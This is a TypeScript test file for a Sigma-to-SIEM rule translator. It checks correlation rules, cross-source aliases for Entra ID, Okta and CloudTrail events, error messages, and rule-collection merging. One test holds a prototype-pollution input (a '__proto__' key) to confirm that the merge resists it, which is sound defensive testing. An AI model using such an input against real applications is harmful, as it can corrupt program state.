      const body = TEMPORAL.replace("type: temporal", `${TEMPORAL_CONDITION}\n  ${condition}`);
      const [, , , corr] = translate(failed, locked, mfa, correlation(body));
      expect(corr.problems).toEqual([]);
      return corr.spec!.trigger;
    };
    expect(trigger("gte: 2")).toEqual({ operator: "GTE", threshold: 2 });
    expect(trigger("gt: 1")).toEqual({ operator: "GTE", threshold: 2 });
    expect(trigger("gte: 2\n  lte: 3")).toEqual({ operator: "GTE", threshold: 2 });
    expect(trigger("lt: 2")).toEqual({ operator: "LTE", threshold: 1 });
    expect(trigger("eq: 3")).toEqual({ operator: "EQ", threshold: 3 });
    expect(trigger("eq: 1")).toEqual({ operator: "EQ", threshold: 1 });
    expect(trigger("neq: 1")).toEqual({ operator: "NE", threshold: 1 });
  });

  it("turns temporal_ordered into FILTERS_MATCHED_IN_ORDER of all its rules, and says what in order means", () => {
    const ordered = (condition: string) => {
      const body = EVENT_COUNT.replace("event_count", "temporal_ordered")
        .replace("- failed_signin", "- failed_signin\n  - locked_signin")
        .replace("gte: 10", condition);
      const [, , corr] = translate(failed, locked, correlation(body));
      expect(corr.problems).toEqual([]);
      return corr;
    };
    const corr = ordered("gte: 2");
    expect(corr.spec!.summarize).toEqual({
      by: ["attributes.user.email_addr"],
      aggregate: "FILTERS_MATCHED_IN_ORDER",
      filters: [
        { name: "failed_signin", filter: { field: "attributes.error_code", op: "eq", value: 50126 } },
        { name: "locked_signin", filter: { field: "attributes.error_code", op: "eq", value: 50053 } },
      ],
    });
    expect(corr.spec!.trigger).toEqual({ operator: "GTE", threshold: 2 });
    expect(corr.notes).toContain(
      "In order means each rule's event strictly after the event of the rule before it: events at the same instant are not in order.",
    );
    for (const condition of ["eq: 2", "gt: 1", "gte: 2\n  lte: 9"])
      expect(ordered(condition).spec!.trigger).toEqual({ operator: "GTE", threshold: 2 });
  });

  const rejections: Array<{ name: string; docs: () => string[]; problems: string[] }> = [
    {
      name: "a reference to a rule that is not in the import",
      docs: () => [failed, correlation(EVENT_COUNT.replace("failed_signin", "no_such_rule"))],
      problems: [
        'INVALID_REFERENCE correlation.rules[0]: no rule of this import has the name or id "no_such_rule": a correlation is imported together with the rules it refers to',
      ],
    },
    {
      name: "a correlation alone (its rules are not in the import)",
      docs: () => [correlation(EVENT_COUNT)],
      problems: [
        'INVALID_REFERENCE correlation.rules[0]: no rule of this import has the name or id "failed_signin": a correlation is imported together with the rules it refers to',
      ],
    },
    {
      name: "a name two rules have",
      docs: () => [
        failed,
        locked.replace("name: locked_signin", "name: failed_signin"),
        correlation(EVENT_COUNT),
      ],
      problems: [
        'INVALID_REFERENCE correlation.rules[0]: "failed_signin" is ambiguous: it names "Sign-in failed failed_signin" (document 1) and "Sign-in failed locked_signin" (document 2)',
      ],
    },
    {
      name: "a reference to itself",
      docs: () => [correlation(EVENT_COUNT.replace("failed_signin", "many_failed"))],
      problems: ["INVALID_REFERENCE correlation.rules[0]: a correlation cannot refer to itself"],
    },
    {
      name: "correlations that refer to each other in a cycle",
      docs: () => [
        correlation(EVENT_COUNT.replace("failed_signin", "other")),
        correlation(EVENT_COUNT.replace("failed_signin", "many_failed"), "", LOCKED).replace(
          "name: many_failed",
          "name: other",
        ),
      ],
      problems: [
        "INVALID_REFERENCE correlation.rules[0]: the correlations refer to each other in a cycle: many_failed → other → many_failed",
        "INVALID_REFERENCE correlation.rules[0]: the correlations refer to each other in a cycle: other → many_failed → other",
      ],
    },
    {
      name: "a correlation of a correlation",
      docs: () => [
        failed,
        correlation(EVENT_COUNT, "", LOCKED).replace("name: many_failed", "name: inner"),
        correlation(EVENT_COUNT.replace("failed_signin", "inner")),
      ],
      problems: [
        'UNSUPPORTED_CORRELATION correlation.rules[0]: "Many failed sign-ins" (document 2) is a correlation rule: correlations of correlations are not supported',
      ],
    },
    {
      name: "a reference to a rule that is rejected",
      docs: () => [failed.replace("ResultType: 50126", "Image: x.exe"), correlation(EVENT_COUNT)],
      problems: [
        'INVALID_REFERENCE correlation.rules[0]: the rule "Sign-in failed failed_signin" (document 1) is rejected (see its problems), so this correlation cannot be imported either',
      ],
    },
    {
      name: "a reference to a rule with an aggregation of its own",
      docs: () => [
        failed.replace("condition: selection", "condition: selection | count() > 5"),
        correlation(EVENT_COUNT),
      ],
      problems: [
        'UNSUPPORTED_CORRELATION correlation.rules[0]: the rule "Sign-in failed failed_signin" (document 1) has an aggregation (| count() …) of its own: a correlation counts the events of rules without one',
      ],
    },
    {
      name: "a group-by field the log source does not keep",
      docs: () => [failed, correlation(EVENT_COUNT.replace("UserPrincipalName", "User"))],
      problems: [
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.group-by\[0\]: field User is not kept for azure\/signinlogs events \(known fields: /,
        ),
      ],
    },
    {
      name: "a value_count without a field, and a counted field the source does not keep",
      docs: () => [
        failed,
        correlation(EVENT_COUNT.replace("event_count", "value_count")),
        correlation(
          EVENT_COUNT.replace("event_count", "value_count").replace("gte: 10", "field: SourceIp\n  gte: 3"),
          "",
          LOCKED,
        ),
      ],
      problems: [
        "MISSING_FIELD correlation.condition.field: is required for value_count: the field whose distinct values are counted",
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.condition\.field: field SourceIp is not kept for azure\/signinlogs events/,
        ),
      ],
    },
    {
      name: "a timespan that is not a duration",
      docs: () => [failed, correlation(EVENT_COUNT.replace("timespan: 1h", "timespan: an hour"))],
      problems: [
        'INVALID_FIELD correlation.timespan: must be a number and a unit s, m, h or d, such as 10m (got "an hour")',
      ],
    },
    {
      name: "a timespan shorter than any rule's period",
      docs: () => [failed, correlation(EVENT_COUNT.replace("timespan: 1h", "timespan: 30s"))],
      problems: [
        "UNSUPPORTED_CONDITION correlation.timespan: must be between 5 minutes and 14 days, the query periods a rule can have (got 30s)",
      ],
    },
    {
      name: "a range no count is in",
      docs: () => [failed, correlation(EVENT_COUNT.replace("gte: 10", "gte: 10\n  lt: 10"))],
      problems: ["INVALID_FIELD correlation.condition: no count satisfies all of its comparisons"],
    },
    {
      name: "a range from 5 to 10",
      docs: () => [failed, correlation(EVENT_COUNT.replace("gte: 10", "gte: 5\n  lte: 10"))],
      problems: [
        "UNSUPPORTED_CORRELATION correlation.condition: the range from 5 to 10 cannot be expressed: a rule's trigger compares the count with one threshold",
      ],
    },
    {
      name: "an unknown comparison and a negative threshold",
      docs: () => [failed, correlation(EVENT_COUNT.replace("gte: 10", "between: 10\n  gte: -1\n  neq: 3"))],
      problems: [
        "INVALID_FIELD correlation.condition.between: is not a comparison (gt, gte, lt, lte, eq, neq)",
        "INVALID_FIELD correlation.condition.gte: must be a whole number ≥ 0 (got -1)",
      ],
    },
    {
      name: "neq with another comparison",
      docs: () => [failed, correlation(EVENT_COUNT.replace("gte: 10", "gte: 10\n  neq: 3"))],
      problems: [
        "UNSUPPORTED_CORRELATION correlation.condition: neq with other comparisons cannot be expressed: a rule's trigger is one comparison",
      ],
    },
    {
      name: "a temporal condition no number of its rules meets, and one that is no single comparison",
      docs: () => [
        failed,
        locked,
        mfa,
        correlation(
          TEMPORAL.replace("type: temporal", `${TEMPORAL_CONDITION}\n  gte: 4`),
          "",
          LOCKED.replace("6d5d", "6d5e"),
        ),
        correlation(TEMPORAL.replace("type: temporal", `${TEMPORAL_CONDITION}\n  gte: 1\n  lte: 2`)),
      ],
      problems: [
        "INVALID_FIELD correlation.condition: no number of its 3 rules satisfies all of its comparisons",
        "UNSUPPORTED_CORRELATION correlation.condition: it allows 1, 2 of the 3 rules, which cannot be expressed: a rule's trigger compares the number matched with one threshold",
      ],
    },
    {
      name: "a temporal_ordered condition other than all of its rules",
      docs: () => [
        failed,
        locked,
        mfa,
        correlation(TEMPORAL.replace("type: temporal", `type: temporal_ordered\ncondition:\n  gte: 2`)),
      ],
      problems: [
        "UNSUPPORTED_CORRELATION correlation.condition: a temporal_ordered correlation can require only all 3 rules in order (gte: 3, or no condition): which 2 or 3 of the rules would have to be in order is not defined",
      ],
    },
    {
      name: "a temporal correlation of one rule, and one that names a rule twice (by name and by id)",
      docs: () => [
        failed,
        locked,
        correlation(EVENT_COUNT.replace("event_count", "temporal").replace("\ncondition:\n  gte: 10", "")),
        correlation(TEMPORAL.replace("- mfa_signin", `- ${FAILED}`), "", LOCKED.replace("6d5d", "6d5e")),
      ],
      problems: [
        "INVALID_FIELD correlation.rules: a temporal correlation needs at least 2 rules (one rule matching is an event_count with gte: 1)",
        "INVALID_FIELD correlation.rules[2]: refers to the same rule as correlation.rules[0]",
      ],
    },
    {
      name: "a temporal correlation over different log sources, grouped by a field one of them does not keep",
      docs: () => [
        failed,
        locked,
        y`
          title: Trail stopped
          id: stop-trail
          name: mfa_signin
          logsource:
            product: aws
            service: cloudtrail
          detection:
            selection:
              eventName: StopLogging
            condition: selection
        `,
        correlation(TEMPORAL),
      ],
      problems: [
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.group-by\[0\]: in mfa_signin, "Trail stopped" \(document 3\): field UserPrincipalName is not kept for aws\/cloudtrail events \(known fields: .*; name its field with aliases: UserPrincipalName: \{ mfa_signin: <field> \}$/,
        ),
      ],
    },
    {
      name: "an event_count over different log sources, grouped by a field one of them does not keep and no alias names",
      docs: () => [
        failed,
        y`
          title: Trail stopped
          id: stop-trail
          logsource:
            product: aws
            service: cloudtrail
          detection:
            selection:
              eventName: StopLogging
            condition: selection
          level: high
        `,
        correlation(EVENT_COUNT.replace("- failed_signin", "- failed_signin\n  - stop-trail")),
      ],
      problems: [
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.group-by\[0\]: in stop-trail, "Trail stopped" \(document 2\): field UserPrincipalName is not kept for aws\/cloudtrail events \(known fields: .*; name its field with aliases: UserPrincipalName: \{ stop-trail: <field> \}$/,
        ),
      ],
    },
    {
      name: "an unknown part, a bad type and malformed rules, group-by and condition",
      docs: () => [
        correlation(
          "type: sequence\nrules: failed_signin\ngroup-by: UserPrincipalName\ntimespan: 1h\ncondition: 10\naliases:\n  user:\n    failed_signin: UserPrincipalName\nordered: true",
        ),
      ],
      problems: [
        "INVALID_FIELD correlation.ordered: is not part of a correlation (type, rules, group-by, timespan, condition, generate, aliases)",
        'INVALID_FIELD correlation.type: must be event_count, value_count, temporal or temporal_ordered (got "sequence")',
        'INVALID_FIELD correlation.rules: must be a list of rule names or ids (got "failed_signin")',
        'INVALID_FIELD correlation.group-by: must be a list of field names (got "UserPrincipalName")',
        "INVALID_FIELD correlation.condition: must be a map such as gte: 10 (got 10)",
      ],
    },
    {
      name: "a correlation that is not a map, without title and id",
      docs: () => ["correlation: event_count\nlevel: high\n"],
      problems: [
        "MISSING_FIELD title: is required",
        "MISSING_FIELD id: is required: rules are imported by their id (a UUID), so importing the rule again updates it",
        'INVALID_FIELD correlation: must be a map of type, rules, group-by, timespan and condition (got "event_count")',
      ],
    },
    {
      name: "missing type, rules, timespan and condition",
      docs: () => [correlation("generate: yes")],
      problems: [
        'INVALID_FIELD correlation.generate: must be true or false (got "yes")',
        "MISSING_FIELD correlation.type: is required (event_count, value_count, temporal or temporal_ordered)",
        "MISSING_FIELD correlation.rules: is required: the names or ids of the rules it correlates",
        "MISSING_FIELD correlation.timespan: is required (such as 1h)",
        "MISSING_FIELD correlation.condition: is required (such as gte: 10)",
      ],
    },
  ];
  for (const { name, docs, problems } of rejections) {
    it(`rejects ${name}`, () => {
      expect(problemsOf(...docs())).toEqual(problems);
    });
  }

  /** Rules over two log sources: password sign-in failures at Entra ID, and the CloudTrail trail stopped. */
  const spray = y`
    title: Password sign-in failure
    id: 0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f
    name: failed_password
    logsource:
      product: azure
      service: signinlogs
    detection:
      selection:
        ResultType: 50126
      condition: selection
    level: low
  `;
  const stopped = y`
    title: CloudTrail logging stopped
    id: 1d2e3f4a-5b6c-4d7e-8f9a-0b1c2d3e4f5a
    name: trail_stopped
    logsource:
      product: aws
      service: cloudtrail
    detection:
      selection:
        eventName:
          - StopLogging
          - DeleteTrail
      condition: selection
    level: high
  `;
  /** Their searches, each within its source. */
  const signin = {
    all: [connector("ENTRA_SIGNIN"), { field: "attributes.error_code", op: "eq", value: 50126 }],
  };
  const trail = {
    all: [
      connector("AWS_CLOUDTRAIL"),
      { field: "attributes.event_name", op: "in", value: ["StopLogging", "DeleteTrail"] },
    ],
  };

  describe("temporal correlations across log sources", () => {
    /** A temporal_ordered correlation of the two, grouped by `groupBy`, with these `aliases:` lines. */
    const ordered = (groupBy: string, aliases = "") =>
      `title: Failed sign-ins, then the trail stopped, from one address\nid: 2e3f4a5b-6c7d-4e8f-9a0b-1c2d3e4f5a6b\ncorrelation:\n  type: temporal_ordered\n  rules:\n    - failed_password\n    - trail_stopped\n${aliases}  group-by:\n    - ${groupBy}\n  timespan: 1h\nlevel: high\n`;
    const ALIASES =
      "  aliases:\n    ip:\n      failed_password: IPAddress\n      trail_stopped: sourceIPAddress\n";

    it("correlates each rule's events within its own source, grouped by an alias of fields that are one column", () => {
      const [, , corr] = translate(spray, stopped, ordered("ip", ALIASES));
      expect(corr.problems).toEqual([]);
      expect(corr.spec).toMatchObject({
        kind: "SCHEDULED",
        filter: { any: [signin, trail] },
        summarize: {
          by: ["src_ip"],
          aggregate: "FILTERS_MATCHED_IN_ORDER",
          // Each filter keeps its source: a CloudTrail event with error code 50126 is no failed sign-in.
          filters: [
            { name: "failed_password", filter: signin },
            { name: "trail_stopped", filter: trail },
          ],
        },
        trigger: { operator: "GTE", threshold: 2 },
        entityMappings: [{ entityType: "IP", field: "src_ip" }],
      });
      const filters = compileFilterToPredicate(corr.spec!.summarize!.filters![0].filter);
      expect(filters({ connector: "AWS_CLOUDTRAIL", attributes: { error_code: 50126 } } as EventLike)).toBe(
        false,
      );
      // A field both sources name alike needs no alias.
      const [, , alike] = translate(spray, stopped, ordered("userAgent"));
      expect([alike.problems, alike.spec!.summarize!.by]).toEqual([[], ["attributes.user_agent"]]);
    });

    it("groups by an alias of fields that are different columns: each rule's field, read from the events of its search", () => {
      const byUser =
        "  aliases:\n    user:\n      failed_password: UserPrincipalName\n      trail_stopped: userIdentity.userName\n";
      const [, , corr] = translate(spray, stopped, ordered("user", byUser));
      expect(corr.problems).toEqual([]);
      expect(corr.spec!.summarize).toMatchObject({
        by: ["user"],
        aliases: [
          {
            name: "user",
            cases: [
              { when: signin, field: "attributes.user.email_addr" },
              { when: trail, field: "attributes.user_name" },
            ],
          },
        ],
      });
    });

    it("refuses fields a source does not keep, and aliases that leave a rule out", () => {
      expect(
        problemsOf(spray, stopped, ordered("ip", ALIASES.replace("sourceIPAddress", "SourceIp"))),
      ).toEqual([
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.aliases\.ip\.trail_stopped: in trail_stopped, "CloudTrail logging stopped" \(document 2\): field SourceIp is not kept for aws\/cloudtrail events \(known fields: [^;]*\)$/,
        ),
      ]);
      expect(
        problemsOf(
          spray,
          stopped,
          ordered("ip", "  aliases:\n    ip:\n      failed_password: IPAddress\n      other_rule: src_ip\n"),
        ),
      ).toEqual([
        "INVALID_FIELD correlation.aliases.ip.other_rule: is not one of the rules the correlation lists",
        "INVALID_FIELD correlation.aliases.ip: names no field for trail_stopped: every rule needs one",
      ]);
      expect(problemsOf(spray, stopped, ordered("ip", "  aliases: [ip]\n"))).toEqual([
        "INVALID_FIELD correlation.aliases: must be a map of alias names to maps of rule: field (got a list)",
      ]);
    });
  });

  describe("event_count and value_count correlations across log sources", () => {
    const oktaFailed = y`
      title: Okta sign-in failure
      id: 4b5c6d7e-8f9a-4b0c-9d1e-2f3a4b5c6d7e
      name: okta_failed
      logsource:
        product: okta
        service: okta
      detection:
        selection:
          eventType: user.session.start
          outcome.result: FAILURE
        condition: selection
      level: low
    `;
    const ALIASES =
      "aliases:\n  user:\n    failed_password: UserPrincipalName\n    okta_failed: actor.alternateId\n  ip:\n    failed_password: IPAddress\n    okta_failed: client.ipAddress\n";
    /** A correlation of the Entra ID and Okta failures: its type, `aliases:`, group-by and condition lines. */
    const signinCount = (type: string, aliases: string, groupBy: string, condition: string) =>
      correlation(
        `type: ${type}\nrules:\n  - failed_password\n  - okta_failed\n${aliases}group-by:\n  - ${groupBy}\ntimespan: 1h\ncondition:\n  ${condition}`,
      );
    const okta = {
      all: [
        connector("OKTA_SYSTEM_LOG"),
        { field: "operation", op: "eq", value: "user.session.start" },
        { field: "attributes.outcome.result", op: "eq", value: "FAILURE" },
      ],
    };
    const user = {
      name: "user",
      cases: [
        { when: signin, field: "attributes.user.email_addr" },
        { when: okta, field: "attributes.actor.alternate_id" },
      ],
    };

    it("counts the events of all the rules, each within its own source, grouped by an alias of different columns", () => {
      const [first, second, corr] = translate(
        spray,
        oktaFailed,
        signinCount("event_count", ALIASES, "user", "gte: 4"),
      );
      expect([first.standalone, second.standalone, corr.problems]).toEqual([false, false, []]);
      expect(corr.spec).toMatchObject({
        kind: "SCHEDULED",
        filter: { any: [signin, okta] },
        summarize: { by: ["user"], aggregate: "COUNT", aliases: [user] },
        trigger: { operator: "GTE", threshold: 4 },
        queryPeriod: "PT1H",
        entityMappings: [{ entityType: "ACCOUNT", field: "user" }],
      });
      expect(validateRuleSpec(corr.spec)).toEqual([]);
      // An Okta event with the Entra error code is not an Entra failure: each case keeps its source.
      const isEntra = compileFilterToPredicate(user.cases[0].when);
      expect(isEntra({ connector: "OKTA_SYSTEM_LOG", attributes: { error_code: 50126 } } as EventLike)).toBe(
        false,
      );
    });

    it("counts the distinct values of an alias, grouped by one that is one column, over a sliding window when asked", () => {
      const docs = [spray, oktaFailed, signinCount("value_count", ALIASES, "ip", "field: user\n  gte: 3")];
      const [, , corr] = translateSigmaYaml(docs.join("---\n"), { slidingWindow: true });
      expect(corr.problems).toEqual([]);
      expect(corr.spec).toMatchObject({
        summarize: {
          by: ["src_ip"],
          aggregate: "DISTINCT_COUNT",
          field: "user",
          window: "PT1H",
          aliases: [user],
        },
        trigger: { operator: "GTE", threshold: 3 },
        entityMappings: [{ entityType: "IP", field: "src_ip" }],
      });
      expect(validateRuleSpec(corr.spec)).toEqual([]);
      // A plain name both sources keep in one column needs no alias; a range of one count is EQ.
      const [, , alike] = translate(
        spray,
        stopped,
        correlation(
          "type: event_count\nrules: [failed_password, trail_stopped]\ngroup-by: [userAgent]\ntimespan: 1h\ncondition:\n  gte: 5\n  lte: 5",
        ),
      );
      expect([alike.problems, alike.spec!.summarize, alike.spec!.trigger]).toEqual([
        [],
        { by: ["attributes.user_agent"], aggregate: "COUNT" },
        { operator: "EQ", threshold: 5 },
      ]);
    });

    it("refuses, naming the rule and the field, a group-by or counted field a rule's source does not keep and no alias names", () => {
      expect(
        problemsOf(spray, oktaFailed, signinCount("event_count", "", "UserPrincipalName", "gte: 4")),
      ).toEqual([
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.group-by\[0\]: in okta_failed, "Okta sign-in failure" \(document 2\): field UserPrincipalName is not kept for okta events \(known fields: .*; name its field with aliases: UserPrincipalName: \{ okta_failed: <field> \}$/,
        ),
      ]);
      expect(
        problemsOf(
          spray,
          oktaFailed,
          signinCount("value_count", ALIASES, "ip", "field: UserPrincipalName\n  gte: 3"),
        ),
      ).toEqual([
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.condition\.field: in okta_failed, "Okta sign-in failure" \(document 2\): field UserPrincipalName is not kept for okta events/,
        ),
      ]);
      expect(
        problemsOf(
          spray,
          oktaFailed,
          signinCount(
            "value_count",
            ALIASES.replace("actor.alternateId", "actor.email"),
            "ip",
            "field: user\n  gte: 3",
          ),
        ),
      ).toEqual([
        expect.stringMatching(
          /^UNSUPPORTED_FIELD correlation\.aliases\.user\.okta_failed: in okta_failed, "Okta sign-in failure" \(document 2\): field actor\.email is not kept for okta events \(known fields: [^;]*\)$/,
        ),
      ]);
      // One name in two columns is no one field to group by: aliases say which of each rule's fields are alike.
      expect(
        problemsOf(
          oktaFailed,
          stopped,
          correlation(
            "type: event_count\nrules: [okta_failed, trail_stopped]\ngroup-by: [eventType]\ntimespan: 1h\ncondition:\n  gte: 4",
          ),
        ),
      ).toEqual([
        'UNSUPPORTED_CORRELATION correlation.group-by[0]: eventType is eventType (operation) in "Okta sign-in failure" (document 1), eventType (attributes.event_type) in "CloudTrail logging stopped" (document 2): a name the rules\' events are grouped by is one field in all of them (name each rule\'s field with aliases)',
      ]);
    });
  });

  it("rejects a correlation for an NRT import: it counts over a period", () => {
    const [, corr] = translateSigmaYaml([failed, correlation(EVENT_COUNT)].join("---\n"), { kind: "NRT" });
    expect(corr.problems.map((p) => `${p.code} ${p.path}: ${p.message}`)).toEqual([
      "UNSUPPORTED_CORRELATION correlation: a correlation counts events over its timespan, so it needs a SCHEDULED rule, not NRT",
    ]);
  });

  it("keeps the rules a rejected correlation refers to out of the import too, and a later rule with the correlation's id is a duplicate", () => {
    const results = translate(
      failed,
      correlation(EVENT_COUNT.replace("gte: 10", "gte: 5\n  lte: 10")),
      base("other", CORRELATION, "50053"),
    );
    expect(results.map((r) => [r.spec !== null, r.standalone, r.problems.map((p) => p.code)])).toEqual([
      [true, false, []],
      [false, true, ["UNSUPPORTED_CORRELATION"]],
      [false, true, ["DUPLICATE_ID"]],
    ]);
  });
});

describe("Sigma rule collections (action: global, reset, repeat)", () => {
  const global = y`
    action: global
    title: CloudTrail change
    status: test
    logsource:
      product: aws
      service: cloudtrail
    detection:
      condition: selection
    level: medium
  `;

  it("merges the global document into each rule document after it, and reports each rule on its own", () => {
    const results = translateSigmaYaml(
      [
        global,
        "id: trail-stopped\ndetection:\n  selection:\n    eventName: StopLogging\n",
        "id: trail-deleted\ntitle: Trail deleted\ndetection:\n  selection:\n    eventName: DeleteTrail\nlevel: high\n",
      ].join("---\n"),
    );
    expect(results.map((r) => [r.document, r.sigmaId, r.title, r.problems, r.spec?.severity])).toEqual([
      [2, "trail-stopped", "CloudTrail change", [], "MEDIUM"],
      [3, "trail-deleted", "Trail deleted", [], "HIGH"],
    ]);
    expect(results[0].spec!.filter).toEqual({
      all: [connector("AWS_CLOUDTRAIL"), { field: "attributes.event_name", op: "eq", value: "StopLogging" }],
    });
    expect(results[0].notes).toEqual([
      "Made from the rule collection's global document (document 1) and this document.",
    ]);
    // The stored YAML is the whole rule, so it imports again on its own.
    expect(results[0].yaml).toBe(
      "title: CloudTrail change\nstatus: test\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  condition: selection\n  selection:\n    eventName: StopLogging\nlevel: medium\nid: trail-stopped",
    );
    expect(one(results[0].yaml).spec).toEqual(results[0].spec);
  });

  it("repeats the rule before it with the changes of a repeat document; a reset forgets the global", () => {
    const results = translateSigmaYaml(
      [
        global,
        "id: trail-stopped\ndetection:\n  selection:\n    eventName: StopLogging\n",
        "action: repeat\nid: trail-stopped-by-root\ndetection:\n  root:\n    userIdentity.type: Root\n  condition: selection and root\n",
        "action: reset\n",
        "id: no-global\ndetection:\n  selection:\n    eventName: StopLogging\n",
      ].join("---\n"),
    );
    expect(results.map((r) => [r.document, r.sigmaId, r.problems.map((p) => `${p.code} ${p.path}`)])).toEqual(
      [
        [2, "trail-stopped", []],
        [3, "trail-stopped-by-root", []],
        [
          5,
          "no-global",
          ["MISSING_FIELD title", "MISSING_FIELD logsource", "MISSING_FIELD detection.condition"],
        ],
      ],
    );
    expect(results[1].spec!.filter).toEqual({
      all: [
        connector("AWS_CLOUDTRAIL"),
        { field: "attributes.event_name", op: "eq", value: "StopLogging" },
        { field: "attributes.user_identity_type", op: "eq", value: "Root" },
      ],
    });
    expect(results[1].notes).toEqual([
      "Made from the rule of document 2 with this document's changes (action: repeat).",
    ]);
  });

  it("rejects a global document no rule follows, a repeat with nothing to repeat, an unknown action, and rules sharing the global's id", () => {
    const results = translateSigmaYaml(
      [
        "action: repeat\nid: nothing-before\n",
        `${global}id: shared-id\n`,
        "detection:\n  selection:\n    eventName: StopLogging\n",
        "detection:\n  selection:\n    eventName: DeleteTrail\n",
        "action: include\n",
        "title: [broken\n",
        "action: repeat\nid: after-broken\n",
        global,
      ].join("---\n"),
    );
    expect(
      results.map((r) => [r.document, r.problems.map((p) => `${p.code} ${p.path}: ${p.message}`)]),
    ).toEqual([
      [
        1,
        [
          "INVALID_FIELD action: action: repeat repeats the rule before it with changes, and there is no rule before it",
        ],
      ],
      [3, []],
      [
        4,
        [
          "DUPLICATE_ID id: the id shared-id is used by an earlier rule of this import (each rule a collection makes needs an id of its own)",
        ],
      ],
      [
        5,
        [
          'INVALID_FIELD action: must be global, reset or repeat, Sigma\'s rule collection actions (got "include")',
        ],
      ],
      [6, [expect.stringMatching(/^INVALID_YAML : not valid YAML/)]],
      [
        7,
        [
          "INVALID_FIELD action: action: repeat repeats the rule before it, and that document (6) is not valid",
        ],
      ],
      [
        8,
        [
          "INVALID_FIELD action: a global document holds the parts common to the rule documents after it, and no rule document follows it",
        ],
      ],
    ]);
  });

  it("merges maps key by key and keeps a __proto__ key a key", () => {
    const merged = mergeRuleParts(
      { detection: { a: 1, list: [1, 2] }, title: "x" },
      JSON.parse('{"detection": {"list": [3], "__proto__": {"polluted": true}}, "title": "y"}') as Record<
        string,
        unknown
      >,
    );
    expect(merged).toEqual({ detection: { a: 1, list: [3], ["__proto__"]: { polluted: true } }, title: "y" });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(merged.detection)).toBe(Object.prototype);
  });

  it("makes a correlation and its base rule from a collection", () => {
    const results = translateSigmaYaml(
      [
        "action: global\nlogsource:\n  product: azure\n  service: signinlogs\nlevel: low\n",
        "title: Failed\nid: failed\nname: failed\ndetection:\n  selection:\n    ResultType: 50126\n  condition: selection\n",
        "action: reset\n",
        "title: Many failed\nid: many-failed\ncorrelation:\n  type: event_count\n  rules: [failed]\n  timespan: 1h\n  condition:\n    gte: 10\n",
      ].join("---\n"),
    );
    expect(results.map((r) => [r.sigmaId, r.standalone, r.problems])).toEqual([
      ["failed", false, []],
      ["many-failed", true, []],
    ]);
  });
});
